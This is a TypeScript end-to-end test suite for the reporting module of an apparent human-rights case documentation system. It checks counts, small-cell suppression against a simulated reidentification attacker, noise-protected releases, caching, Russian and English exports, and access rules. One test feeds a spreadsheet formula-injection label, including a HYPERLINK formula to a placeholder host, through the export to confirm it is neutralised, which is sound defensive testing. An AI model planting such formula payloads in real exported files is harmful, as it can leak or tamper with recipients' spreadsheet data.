import type { INestApplicationContext } from '@nestjs/common';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { XMLValidator } from 'fast-xml-parser';
import { DataSource } from 'typeorm';
import { AuditService } from '@casebook/audit';
import { SyntheticSeederService } from '@casebook/synthetic';
import { CSV_HEADER, planAggregation, type RawAggregates, type ReportParams, type ReportResult, ReportsService } from '@casebook/reports';
import { http, startApi, type RunningApi } from './support/api';
import { caseBody } from './support/cases';
import { ensureRelease, requestReport } from './support/reports';
import { signIn, type SignedIn } from './support/identity';
import { eventually, startWorker } from './support/worker';

type Published = { respondents: number | null; incidents: number | null; suppressed: boolean };

/**
 * The attacker: takes every number a report publishes and tries to pin down
 * each suppressed cell. Breakdowns of case-level dimensions partition the
 * respondents, so Σ rows = total; every suppressed value is ≥ 1 (zeros are
 * published). In the cross-tab, a cell is bounded by its row and column
 * totals and by its incident count. A cell is recovered when its bounds meet.
 */
function recovered(report: ReportResult): string[] {
  const leaks: string[] = [];
  const total = report.total.respondents;
  for (const [name, table] of Object.entries(report.breakdowns) as Array<[string, { rows: Published[] }]>) {
    const hidden = table.rows.filter((r) => r.suppressed);
    if (hidden.length === 0 || total === null) continue;
    const rest = total - table.rows.reduce((s, r) => s + (r.respondents ?? 0), 0);
    // With additive rows: Σ hidden = rest, each in [1, rest − (n − 1)].
    if (['gender', 'age_band', 'work_setting'].includes(name) && 1 === rest - (hidden.length - 1)) leaks.push(`${name}: all ${hidden.length} suppressed rows are 1`);
    if (hidden.length === 1 && ['gender', 'age_band', 'work_setting'].includes(name)) leaks.push(`${name}: single suppressed row = ${rest}`);
  }
  const ct = report.crossTab;
  ct.cells.forEach((row, r) =>
    row.forEach((cell, c) => {
      if (!cell.suppressed) return;
      const bounds = [ct.rowTotals[r].respondents, ct.columnTotals[c].respondents, cell.incidents].filter((v): v is number => v !== null);
      // A published bound of 1 would pin a suppressed cell (≥ 1) to exactly 1.
      if (bounds.some((b) => b === 1)) leaks.push(`cross-tab ${ct.rows[r].key}/${ct.columns[c].key} bounded by 1`);
      if (ct.rowTotals[r].respondents !== null || ct.columnTotals[c].respondents !== null) leaks.push(`cross-tab ${ct.rows[r].key}/${ct.columns[c].key}: margin published`);
    }),
  );
  return leaks;
}

describe('reports', () => {
  let api: RunningApi;
  let worker: INestApplicationContext;
  let db: DataSource;
  let researcher: SignedIn;
  let interviewer: SignedIn;
  let admin: SignedIn;

  const request = (who: SignedIn, body: Record<string, unknown>) => requestReport(api, who, body);

  beforeAll(async () => {
    api = await startApi();
    worker = await startWorker();
    db = api.app.get(DataSource);
    researcher = await signIn(api, 'researcher', 'Reports NGO');
    interviewer = await signIn(api, 'interviewer', 'Reports NGO');
    admin = await signIn(api, 'admin', 'Reports NGO');
    await new SyntheticSeederService(api.app.get(DataSource), api.app.get(AuditService)).seed(3_000, 42);
    // Researchers' reports read protected releases only: none yet, so none can be answered.
    const none = await http(`${api.url}/api/v1/reports`, { body: { k: 5 }, token: researcher.accessToken });
    expect(none.status).toBe(409);
    expect(none.body.detail).toMatch(/No protected release/);
    await ensureRelease(api);
  }, 300_000);
  afterAll(async () => {
    await worker.close();
    await api.close();
  });

  it('counts only published cases (exact, for admins): a draft never, a published case once, a withdrawn case no more', async () => {
    const body = caseBody({ country: 'ME', narrative: undefined, incidents: [{ ...caseBody().incidents[0], country: 'ME' }] });
    await http(`${api.url}/api/v1/cases`, { body, token: interviewer.accessToken });
    const draft = await request(admin, { countries: ['ME'], k: 5, exact: true });
    expect(draft.result.total.respondents).toBe(0);

    await http(`${api.url}/api/v1/cases/${body.id}/submit`, { method: 'POST', token: interviewer.accessToken });
    await eventually(async () => (await http(`${api.url}/api/v1/cases/${body.id}`, { token: admin.accessToken })).body.status === 'in_review');
    expect((await http(`${api.url}/api/v1/cases/${body.id}/redaction/approve`, { method: 'POST', token: admin.accessToken })).status).toBe(200);
    const published = await request(admin, { countries: ['ME'], k: 5, exact: true });
    expect(published.reused).toBe(false);
    // One respondent: suppressed, shown as suppressed, never as a number or percentage.
    expect(published.result.total).toEqual({ respondents: null, incidents: null, pctRespondents: null, suppressed: true });
    const [{ n }] = await db.query(`SELECT count(DISTINCT case_id)::int AS n FROM report_facts WHERE country = 'ME'`);
    expect(n).toBe(1);

    await http(`${api.url}/api/v1/cases/${body.id}/withdraw`, { method: 'POST', body: {}, token: interviewer.accessToken });
    const afterWithdrawal = await request(admin, { countries: ['ME'], k: 5, exact: true });
    expect(afterWithdrawal.result.total.respondents).toBe(0);
    // Nothing found is still shown: the requested country and every category, with 0, never suppressed.
    const result: ReportResult = afterWithdrawal.result;
    expect(result.breakdowns.country.rows).toEqual([expect.objectContaining({ key: 'ME', respondents: 0, suppressed: false })]);
    expect(result.crossTab.rows.map((r) => r.key)).toEqual(expect.arrayContaining(['police', 'client']));
    expect(result.crossTab.cells.flat().every((c) => c.respondents === 0 && !c.suppressed)).toBe(true);
    expect(result.breakdowns.gender.rows.map((r) => r.key)).toEqual(expect.arrayContaining(['female', 'male', 'trans_woman']));
  });

  /**
   * The reference: every count straight from the normalised tables of
   * published cases, with the filters written independently of Casebook's.
   */
  const reference = async (params: ReportParams): Promise<Record<string, string>> => {
    const where: string[] = [`c.status = 'published'`];
    const values: unknown[] = [];
    const bind = (v: unknown) => `$${values.push(v)}`;
    const region = `coalesce(i.region_code, CASE WHEN i.country = c.country THEN c.region_code END, '')`;
    if (params.countries) where.push(`i.country = ANY(${bind(params.countries)})`);
    if (params.regionFilter) where.push(`${region} = ANY(${bind(params.regionFilter)})`);

    if (params.genders) where.push(`c.gender = ANY(${bind(params.genders)})`);
    if (params.workSettings) where.push(`c.work_setting = ANY(${bind(params.workSettings)})`);
    if (params.organisationId) where.push(`c.organisation_id = ${bind(params.organisationId)}`);
    if (params.from) where.push(`make_date(i.year, coalesce(i.month, 1), 1) >= ${bind(`${params.from}-01`)}::date`);
    if (params.to) where.push(`make_date(i.year, coalesce(i.month, 12), 1) <= ${bind(`${params.to}-01`)}::date`);
    const r = params.perpetrators === 'group' ? `coalesce(tp.group_code, 'other')` : 'p.type';
    const col = params.abuses === 'group' ? `coalesce(ta.group_code, 'other')` : 'a.category';
    const from = `FROM cases c JOIN report_record_keys rk ON rk.case_id = c.id
                  JOIN incidents i ON i.case_id = c.id JOIN incident_perpetrators p ON p.incident_id = i.id JOIN incident_abuses a ON a.incident_id = i.id
                  LEFT JOIN taxonomy_terms tp ON tp.vocabulary = 'perpetrator_type' AND tp.code = p.type
                  LEFT JOIN taxonomy_terms ta ON ta.vocabulary = 'abuse_category' AND ta.code = a.category
                  WHERE ${where.join(' AND ')}`;
    // The perpetrator filter narrows the cells and margins only; totals, bases and breakdowns are of everyone in scope.
    const narrowed = params.perpetratorTypes ? from.replace('WHERE', `WHERE p.type = ANY($${values.length + 1}) AND`) : from;
    const narrowedValues = params.perpetratorTypes ? [...values, params.perpetratorTypes] : values;
    const out: Record<string, string> = {};
    const groups: Array<[string, string]> = [
      ['cell', `${r} || '/' || ${col}`], ['row', r], ['col', col], ['total', `''`], ['country', 'i.country::text'], ['year', 'i.year::text'],
      ['gender', 'c.gender'], ['age_band', 'c.age_band'], ['work_setting', 'c.work_setting'], ['location_type', 'i.location_type'], ['region', region],
    ];
    for (const [name, key] of groups) {
      // The cell key: the sum of the distinct cases' record keys, modulo 2^32.
      const cellular = ['cell', 'row', 'col'].includes(name);
      const rows = await db.query(
        `SELECT ${key} AS key, count(DISTINCT c.id)::int AS n, count(DISTINCT i.id)::int AS m, mod(sum(DISTINCT rk.record_key), 4294967296)::float8 AS ck ${cellular ? narrowed : from} GROUP BY 1`,
        cellular ? narrowedValues : values,
      );
      for (const x of rows) out[`${name}:${x.key}`] = `${x.n}/${x.m}/${x.ck}`;
    }
    // Respondents per region group they have an incident in; per question, those not asked it or who declined.
    const extra: Array<[string, string]> = [
      ['region_group', `SELECT m.group_code AS key, %COUNTS% ${from.replace('WHERE', `JOIN region_group_members m ON m.region_code = ${region} WHERE`)} GROUP BY 1`],
      ['unasked', `SELECT q.key AS key, %COUNTS% ${from.replace('WHERE', `CROSS JOIN LATERAL jsonb_each_text(c.question_status) AS q(key, value) WHERE q.value IN ('not_asked', 'declined') AND`)} GROUP BY 1`],
    ];
    for (const [name, sql] of extra) {
      const counts = `count(DISTINCT c.id)::int AS n, count(DISTINCT i.id)::int AS m, mod(sum(DISTINCT rk.record_key), 4294967296)::float8 AS ck`;
      for (const x of await db.query(sql.replace('%COUNTS%', counts), values)) out[`${name}:${x.key}`] = `${x.n}/${x.m}/${x.ck}`;
    }
    return out;
  };
  const flatten = (a: RawAggregates): Record<string, string> => {
    const out: Record<string, string> = {};
    for (const x of a.crossTab) if (x.respondents) out[`cell:${x.row}/${x.col}`] = `${x.respondents}/${x.incidents}/${x.cellKey}`;
    for (const x of a.rowTotals) if (x.respondents) out[`row:${x.row}`] = `${x.respondents}/${x.incidents}/${x.cellKey}`;
    for (const x of a.columnTotals) if (x.respondents) out[`col:${x.col}`] = `${x.respondents}/${x.incidents}/${x.cellKey}`;
    if (a.total.respondents) out['total:'] = `${a.total.respondents}/${a.total.incidents}/${a.total.cellKey}`;
    for (const [name, rows] of Object.entries(a.breakdowns)) for (const x of rows) if (x.respondents) out[`${name}:${x.key}`] = `${x.respondents}/${x.incidents}/${x.cellKey}`;
    for (const x of a.unasked) if (x.respondents) out[`unasked:${x.question}`] = `${x.respondents}/${x.incidents}/${x.cellKey}`;
    return out;
  };

  it('counts every respondent exactly once, with the same cell key, from the rollups and the facts, whatever the filters', async () => {
    // The data must hold the hard cases: respondents with incidents in several countries and years.
    const [{ multi, single }] = await db.query(
      `SELECT count(DISTINCT case_id) FILTER (WHERE multi_slice)::int AS multi, count(DISTINCT case_id) FILTER (WHERE NOT multi_slice)::int AS single FROM report_facts`,
    );
    const [{ countries }] = await db.query(`SELECT count(*)::int AS countries FROM (SELECT case_id FROM incidents GROUP BY case_id HAVING count(DISTINCT country) > 1) x`);
    expect(multi).toBeGreaterThan(50);
    expect(single).toBeGreaterThan(500);
    expect(countries).toBeGreaterThan(5);
    const [{ y }] = await db.query(`SELECT max(year)::int AS y FROM report_facts`);
    const [{ org }] = await db.query(`SELECT organisation_id AS org FROM report_facts GROUP BY 1 ORDER BY count(*) DESC LIMIT 1`);
    const base = { perpetrators: 'type', abuses: 'type', lang: 'en', k: 5, perturbation: { maxNoise: 4, variance: 1 } } as const;
    const scenarios: Array<[ReportParams, string]> = [
      [{ ...base }, 'profile'],
      [{ ...base, perpetrators: 'group', abuses: 'group', genders: ['female', 'trans_woman'], workSettings: ['street'] }, 'profile'],
      [{ ...base, countries: ['KZ'] }, 'slice'],
      [{ ...base, abuses: 'group', countries: ['KZ', 'KG', 'UZ'], from: `${y - 1}-01`, to: `${y}-12`, organisationId: org }, 'slice'],
      [{ ...base, perpetrators: 'group', from: `${y - 2}-04`, to: `${y - 1}-09` }, 'slice'],
      [{ ...base, countries: ['RU'], from: `${y - 1}-06`, to: `${y - 1}-06` }, 'slice'],
      [{ ...base, countries: ['KZ'], genders: ['female'], from: `${y - 1}-03` }, 'facts'],
      [{ ...base, regionFilter: ['KZ-75', 'KZ-35', 'RU-NVS'] }, 'facts'],
      [{ ...base, abuses: 'group', perpetratorTypes: ['police', 'police_special'], countries: ['KG'] }, 'facts'],
    ];
    // Region groups, as admins make and change them (the rollups follow); the reference counts them independently.
    const put = (code: string, members: string[]) =>
      http(`${api.url}/api/v1/region-groups/${code}`, { method: 'PUT', body: { country: 'KZ', labelEn: code, labelRu: code, members }, token: admin.accessToken });
    expect((await put('kz_cities', ['KZ-75', 'KZ-35'])).status).toBe(200);
    expect((await put('kz_south', ['KZ-79', 'KZ-75'])).status).toBe(200);
    expect((await put('kz_cities', ['KZ-75', 'KZ-71', 'KZ-79'])).status).toBe(200);
    const [{ unasked }] = await db.query(`SELECT count(*)::int AS unasked FROM cases WHERE status = 'published' AND question_status <> '{}'`);
    expect(unasked).toBeGreaterThan(20);
    const reports = api.app.get(ReportsService);
    for (const [params, source] of scenarios) {
      expect(planAggregation(params).source).toBe(source);
      const expected = await reference(params);
      expect(Object.keys(expected).length).toBeGreaterThan(0);
      expect(flatten(await reports.aggregate(params))).toEqual(expected);
    }
    // Kept incrementally (by the publish trigger and the seeder's batches), the rollups equal a recount from scratch.
    const [{ drift }] = await db.query(`
      SELECT count(*)::int AS drift FROM (
        (SELECT organisation_id, gender, age_band, work_setting, kind, key1, key2, sum(respondents)::int, sum(incidents)::int, mod(sum(key_sum), 4294967296)::bigint
           FROM report_rollup_contributions((SELECT array_agg(DISTINCT case_id) FROM report_facts)) GROUP BY 1, 2, 3, 4, 5, 6, 7
         EXCEPT SELECT organisation_id, gender, age_band, work_setting, kind, key1, key2, respondents, incidents, key_sum FROM report_rollup_profile WHERE respondents <> 0)
        UNION ALL
        (SELECT organisation_id, gender, age_band, work_setting, kind, key1, key2, respondents, incidents, key_sum FROM report_rollup_profile WHERE respondents <> 0
         EXCEPT SELECT organisation_id, gender, age_band, work_setting, kind, key1, key2, sum(respondents)::int, sum(incidents)::int, mod(sum(key_sum), 4294967296)::bigint
           FROM report_rollup_contributions((SELECT array_agg(DISTINCT case_id) FROM report_facts)) GROUP BY 1, 2, 3, 4, 5, 6, 7)) d`);
    expect(drift).toBe(0);
    const [{ negative }] = await db.query(`SELECT count(*)::int AS negative FROM report_rollup_slice WHERE respondents < 0 OR incidents < 0`);
    expect(negative).toBe(0);
  });

  it('computes the cross-tab and breakdowns with suppression that no attacker can undo', async () => {
    const report = await request(researcher, { k: 5, lang: 'ru' });
    const result: ReportResult = report.result;
    // The release counts a respondent once per year with an incident (the releases are per year).
    const [{ respondents }] = await db.query(`SELECT sum(n)::int AS respondents FROM (SELECT count(DISTINCT case_id) AS n FROM report_facts GROUP BY year) y`);
    // Read from the release, with its noise's standard deviation; an admin's exact report gives the count itself.
    expect(result.total.sd).toBeGreaterThan(0);
    expect(Math.abs(result.total.respondents! - respondents)).toBeLessThanOrEqual(4 * result.total.sd!);
    expect(result.rule.perturbation).toBeNull();
    expect(result.rule.privacy).toMatchObject({ rho: expect.any(Number), epsilon: expect.any(Number), delta: 1e-6 });
    // Releases count respondents, never incidents.
    expect(result.total.incidents).toBeNull();
    const exact = (await request(admin, { k: 5, lang: 'ru', exact: true })).result as ReportResult;
    const [{ distinct }] = await db.query(`SELECT count(DISTINCT case_id)::int AS distinct FROM report_facts`);
    expect(exact.total.respondents).toBe(distinct);
    expect(exact.rule.privacy).toBeNull();
    expect(exact.total.sd).toBeUndefined();
    expect(result.crossTab.rows.find((r) => r.key === 'police')?.label).toBe('Полиция');
    expect(result.rule.description).toMatch(/^Значения от 1 до 4 не показываются/);
    const published = result.crossTab.cells.flat().filter((c) => !c.suppressed);
    expect(published.every((c) => c.respondents === 0 || c.respondents! >= 5)).toBe(true);
    // The police × extortion cell: exact for the admin, within the bound for the researcher.
    const [{ raw }] = await db.query(
      `SELECT count(DISTINCT case_id)::int AS raw FROM report_facts WHERE perpetrator_type = 'police' AND abuse_category = 'extortion'`,
    );
    const [{ perYear }] = await db.query(
      `SELECT sum(n)::int AS "perYear" FROM (SELECT count(DISTINCT case_id) AS n FROM report_facts WHERE perpetrator_type = 'police' AND abuse_category = 'extortion' GROUP BY year) y`,
    );
    const r = result.crossTab.rows.findIndex((x) => x.key === 'police');
    const c = result.crossTab.columns.findIndex((x) => x.key === 'extortion');
    expect(exact.crossTab.cells[r][c].respondents).toBe(raw);
    const cell = result.crossTab.cells[r][c];
    // A suppressed cell (1 to 4 published) has no number; a published one is within 4 sd of the truth.
    if (!cell.suppressed) expect(Math.abs(cell.respondents! - perYear)).toBeLessThanOrEqual(4 * cell.sd! + 2);
    // Percentages come from the published figures, over the column's published base.
    const base = result.crossTab.columnBases[c].respondents!;
    if (!cell.suppressed) expect(cell.pctRespondents).toBe(Math.round((cell.respondents! / base) * 1000) / 10);
    if (!cell.suppressed) expect(cell.pctSd).toBe(Math.round((cell.sd! / base) * 1000) / 10);
    // Release figures are hidden by the primary rule only (the noise is the protection, tests/disclosure.e2e.ts):
    // a column keeps its total although one of its cells is hidden, so the headline shares are readable.
    const withHiddenCell = result.crossTab.columnTotals.filter((_, j) => result.crossTab.cells.some((row) => row[j].suppressed));
    expect(withHiddenCell.length).toBeGreaterThan(0);
    expect(withHiddenCell.some((t) => !t.suppressed && t.respondents! >= 5)).toBe(true);
    // Exact figures (an admin's report) keep complementary suppression: nothing hidden can be worked out.
    expect(recovered(exact)).toEqual([]);

    // A small slice of the data has small counts: they are suppressed, and in exact figures still unrecoverable.
    const small = await request(researcher, { k: 5, countries: ['AM', 'AZ', 'BY'] });
    expect((small.result as ReportResult).crossTab.cells.flat().some((x) => x.suppressed)).toBe(true);
    expect(Object.values((small.result as ReportResult).breakdowns).some((b) => b.rows.some((x) => x.suppressed))).toBe(true);
    expect((small.result as ReportResult).crossTab.cells.flat().every((x) => x.suppressed || x.respondents === 0 || x.respondents! >= 5)).toBe(true);
    const smallExact = await request(admin, { k: 5, countries: ['AM', 'AZ', 'BY'], exact: true });
    expect(recovered(smallExact.result)).toEqual([]);

    const grouped = await request(researcher, { perpetrators: 'group', abuses: 'group', k: 5 });
    expect(grouped.result.crossTab.rows.map((x: { key: string }) => x.key)).toEqual(expect.arrayContaining(['state', 'non_state']));
    const groupedExact = await request(admin, { perpetrators: 'group', abuses: 'group', k: 5, exact: true });
    expect(recovered(groupedExact.result)).toEqual([]);
  });

  it('reuses an identical request over unchanged data, and audits every request', async () => {
    const first = await request(researcher, { countries: ['KZ'], k: 7 });
    const again = await http(`${api.url}/api/v1/reports`, { body: { countries: ['KZ'], k: 7 }, token: researcher.accessToken });
    expect(again.body.status).toBe('done');
    expect(again.body.reused).toBe(true);
    expect(again.body.result).toEqual(first.result);
    // Read again later, each still says whether it was an earlier result.
    const [firstRead, againRead] = await Promise.all([first.id, again.body.id].map((id: string) => http(`${api.url}/api/v1/reports/${id}`, { token: researcher.accessToken })));
    expect([firstRead.body.reused, againRead.body.reused]).toEqual([false, true]);
    // The recent reports list the question once, as its newest asking, newest first among the others.
    const other = await request(researcher, { countries: ['KG'], k: 7 });
    const thrice = await http(`${api.url}/api/v1/reports`, { body: { countries: ['KZ'], k: 7 }, token: researcher.accessToken });
    expect(thrice.body.reused).toBe(true);
    const recent = await http(`${api.url}/api/v1/reports?limit=50`, { token: researcher.accessToken });
    const ids: string[] = recent.body.items.map((r: { id: string }) => r.id);
    expect(ids.slice(0, 2)).toEqual([thrice.body.id, other.id]);
    expect(ids).not.toContain(first.id);
    expect(ids).not.toContain(again.body.id);
    const hashes = recent.body.items.map((r: { params: unknown }) => JSON.stringify(r.params));
    expect(new Set(hashes).size).toBe(hashes.length);
    const created = recent.body.items.map((r: { createdAt: string }) => r.createdAt);
    expect([...created].sort().reverse()).toEqual(created);
    // An admin's exact report of the same question is never the researcher's (nor reused for one).
    const exact = await request(admin, { countries: ['KZ'], k: 7, exact: true });
    expect(exact.reused).toBe(false);
    expect(exact.result.rule.privacy).toBeNull();
    const adminFromRelease = await http(`${api.url}/api/v1/reports`, { body: { countries: ['KZ'], k: 7 }, token: admin.accessToken });
    expect(adminFromRelease.body.reused).toBe(true);
    expect(adminFromRelease.body.result.total).toEqual(first.result.total);
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM audit_events WHERE action = 'report.requested' AND actor_id = $1`, [researcher.id]);
    expect(n).toBeGreaterThanOrEqual(2);
  });

  it('takes the same question asked again in another language as the same question: reused, in the new language, listed and counted once', async () => {
    const question = { countries: ['KG', 'KZ'], k: 6, compareBy: 'country' };
    const english = await request(researcher, { ...question, lang: 'en' });
    expect(english.reused).toBe(false);
    const russian = await http(`${api.url}/api/v1/reports`, { body: { ...question, lang: 'ru' }, token: researcher.accessToken });
    expect(russian.status).toBe(202);
    // Reused (and said so), done at once, nothing queued: the same figures, written in Russian.
    expect(russian.body).toMatchObject({ status: 'done', reused: true });
    expect(russian.body.params.lang).toBe('ru');
    const result = russian.body.result;
    expect(result.lang).toBe('ru');
    expect(result.total).toEqual(english.result.total);
    expect(result.crossTab.cells).toEqual(english.result.crossTab.cells);
    expect(result.breakdowns).toEqual(
      Object.fromEntries(Object.entries(english.result.breakdowns as Record<string, { rows: Array<{ label: string }> }>).map(([b, t]) => [b, { ...t, rows: t.rows.map((r) => ({ ...r, label: expect.any(String) })) }])),
    );
    expect(result.comparison.units.map((u: { label: string }) => u.label)).toEqual(['Кыргызстан', 'Казахстан']);
    expect(result.crossTab.rows.find((r: { key: string }) => r.key === 'police').label).toBe('Полиция');
    expect(result.rule.description).toMatch(/^Значения от 1 до 5 не показываются/);
    expect(result.description.title).toMatch(/^Нарушения прав человека/);
    // Its downloads are Russian too.
    const csv = await (await fetch(`${api.url}/api/v1/reports/${russian.body.id}/download?format=csv`, { headers: { authorization: `Bearer ${researcher.accessToken}` } })).text();
    expect(csv).toContain('# название: ');
    const [{ queued }] = await db.query(`SELECT count(*)::int AS queued FROM outbox WHERE job_id = $1`, [`report-${russian.body.id}`]);
    expect(queued).toBe(0);
    // One question: one line in "recent reports" (the newest asking, in Russian), one distinct question counted.
    const recent = await http(`${api.url}/api/v1/reports?limit=50`, { token: researcher.accessToken });
    const ids: string[] = recent.body.items.map((r: { id: string }) => r.id);
    expect(ids).toContain(russian.body.id);
    expect(ids).not.toContain(english.id);
    const [{ questions }] = await db.query(`SELECT count(DISTINCT params_hash)::int AS questions FROM reports WHERE id = ANY($1::uuid[])`, [[english.id, russian.body.id]]);
    expect(questions).toBe(1);
    // Asked again in English: the English answer, reused as it was.
    const again = await http(`${api.url}/api/v1/reports`, { body: { ...question, lang: 'en' }, token: researcher.accessToken });
    expect(again.body).toMatchObject({ status: 'done', reused: true });
    expect(again.body.result).toEqual(english.result);
  });

  it('writes a hostile region-group label inert into every line of the CSV, description block included', async () => {
    const hostile = 'North,=HYPERLINK("http://x/?q="&A2),-2+3';
    const put = await http(`${api.url}/api/v1/region-groups/kz_hostile`, {
      method: 'PUT',
      body: { country: 'KZ', labelEn: hostile, labelRu: 'Юг;=1+1;"@SUM(A1)"', members: ['KZ-75', 'KZ-35'] },
      token: admin.accessToken,
    });
    expect(put.status).toBe(200);
    for (const [lang, label] of [['en', hostile], ['ru', 'Юг;=1+1;"@SUM(A1)"']] as const) {
      const report = await request(researcher, { k: 5, lang, regionGroups: ['kz_hostile'], compareBy: 'region_group', abuses: 'group' });
      const csv = await (await fetch(`${api.url}/api/v1/reports/${report.id}/download?format=csv`, { headers: { authorization: `Bearer ${researcher.accessToken}` } })).text();
      // Read as a spreadsheet that ignores quoting would: every line split at commas and semicolons.
      const cells = csv.split(/\r\n|\r|\n/).flatMap((line) => line.split(/[,;]/)).map((cell) => cell.replace(/^[ "]+/, ''));
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      // The label is there, in the filters line and in the comparison's rows, made inert.
      const inert = lang === 'en' ? `North,'=HYPERLINK("http://x/?q="&A2),'-2+3` : `Юг;'=1+1;"'@SUM(A1)"`;
      const quoted = `"${inert.replace(/"/g, '""')}"`;
      expect([label, csv.split('\n').some((l) => l.startsWith('# ') && l.endsWith(`: ${quoted}`))]).toEqual([label, true]);
      const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
      expect([label, rows.some((r) => r[0] === 'compare_region_group_total' && r[2] === inert)]).toEqual([label, true]);
    }
  });

  it('exports CSV, XLSX and SVG that parse, with headers and labels', async () => {
    const report = await request(researcher, { k: 5, lang: 'ru', countries: ['KZ', 'KG'] });
    const download = (format: string) => fetch(`${api.url}/api/v1/reports/${report.id}/download?format=${format}`, { headers: { authorization: `Bearer ${researcher.accessToken}` } });

    const bytes = Buffer.from(await (await download('csv')).arrayBuffer());
    // Starts with the UTF-8 byte-order mark (Excel on Russian Windows); fetch's text() drops it, as spreadsheets do.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder().decode(bytes);
    // A header block says what the figures are, in the report's language; readers skip it as comments.
    const block = csv.split('\n').filter((l) => l.startsWith('# '));
    // Each value is a CSV cell, quoted and neutralised like the data.
    expect(block.join('\n')).toContain('Страны: "Кыргызстан, Казахстан"');
    expect(block.join('\n')).toMatch(/период: все задокументированные случаи/);
    // Figures in the description are written the Russian way (decimal comma); the data cells below keep the point.
    expect(block.join('\n')).toMatch(/правила раскрытия: "?Из защищённых выпусков \(нуль-концентрированная дифференциальная приватность, дискретный гауссов шум; ρ = \d+(,\d+)?, ε = \d+(,\d+)? при δ = 0,000001\)/);
    expect(block.join('\n')).not.toMatch(/[ρεδ] = \d+\.\d/);
    expect(block.join('\n')).toMatch(/данные извлечены: \d{4}-\d\d-\d\dT/);
    expect(block.join('\n')).toMatch(/версия Casebook: \d+\.\d+\.\d+/);
    const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
    expect(rows[0]).toEqual(CSV_HEADER);
    expect(rows.some((r) => r[0] === 'crosstab' && r[1] === 'police' && r[2] === 'Полиция')).toBe(true);
    expect(rows.some((r) => r[0] === 'by_country' && r[1] === 'KZ' && r[2] === 'Казахстан')).toBe(true);
    const at = (name: string) => CSV_HEADER.indexOf(name);
    for (const row of rows.slice(1)) {
      const [respondents, incidents, base, suppressed, sd] = ['respondents', 'incidents', 'base_respondents', 'suppressed', 'sd_respondents'].map((n) => row[at(n)]);
      expect(incidents).toBe('');
      if (suppressed === 'true') expect([respondents, base, sd]).toEqual(['', '', '']);
      else {
        expect(Number(respondents) === 0 || Number(respondents) >= 5).toBe(true);
        expect(Number(sd)).toBeGreaterThan(0);
      }
    }

    const xlsx = Buffer.from(await (await download('xlsx')).arrayBuffer());
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ArrayBuffer);
    // A Russian report is Russian throughout: sheet names and headings too.
    expect(book.worksheets.map((s) => s.name)).toEqual(['Описание', 'Перекрёстная таблица', 'Все значения', 'Правило']);
    const description = book.getWorksheet('Описание')!;
    expect(description.getRow(1).values).toEqual([undefined, 'название', expect.stringContaining('Casebook')]);
    expect(JSON.stringify(description.getSheetValues())).toContain('Кыргызстан, Казахстан');
    expect(book.getWorksheet('Перекрёстная таблица')!.getRow(1).values).toContain('Итого');
    expect((book.getWorksheet('Все значения')!.getRow(1).values as unknown[]).slice(1)).toEqual(CSV_HEADER);

    const svgResponse = await download('svg');
    expect(svgResponse.headers.get('content-type')).toMatch(/^image\/svg\+xml/);
    const svg = await svgResponse.text();
    expect(XMLValidator.validate(svg)).toBe(true);
    expect(svg).toContain('Полиция');
    expect(svg).toContain('Казахстан');
    expect(svg).not.toMatch(/>(country|gender|age band|work setting|KZ|KG)</);
    expect(svg).toContain('<svg');

    const png = await download('png');
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toMatch(/filename="casebook-report-[0-9a-f]{8}\.png"/);
    expect(Buffer.from(await png.arrayBuffer()).subarray(1, 4).toString()).toBe('PNG');

    expect((await download('pdf')).status).toBe(400);
  });

  it('lets researchers see only their own reports and keeps the organisation filter for admins', async () => {
    const mine = await request(researcher, { k: 5, countries: ['UZ'] });
    const other = await signIn(api, 'researcher', 'Other Reports NGO');
    expect((await http(`${api.url}/api/v1/reports/${mine.id}`, { token: other.accessToken })).status).toBe(404);
    expect((await http(`${api.url}/api/v1/reports/${mine.id}`, { token: admin.accessToken })).status).toBe(200);
    const orgFilter = await http(`${api.url}/api/v1/reports`, { body: { organisationId: mine.id }, token: researcher.accessToken });
    expect(orgFilter.status).toBe(403);
    const lowK = await http(`${api.url}/api/v1/reports`, { body: { k: 2 }, token: researcher.accessToken });
    expect(lowK.status).toBe(400);
    expect(lowK.body.errors[0].pointer).toBe('/k');
    // Above the absolute floor but below the policy's k (5): refused, naming the field.
    const belowPolicy = await http(`${api.url}/api/v1/reports`, { body: { k: 4 }, token: researcher.accessToken });
    expect(belowPolicy.status).toBe(422);
    expect(belowPolicy.body.errors).toEqual([expect.objectContaining({ pointer: '/k' })]);
    // Exact counts and the retired differential-privacy knob are not the requester's to choose.
    expect((await http(`${api.url}/api/v1/reports`, { body: { exact: true }, token: researcher.accessToken })).status).toBe(403);
    const epsilon = await http(`${api.url}/api/v1/reports`, { body: { epsilon: 10 }, token: researcher.accessToken });
    expect(epsilon.status).toBe(400);
    expect(epsilon.body.errors[0].pointer).toBe('/epsilon');
  });
});
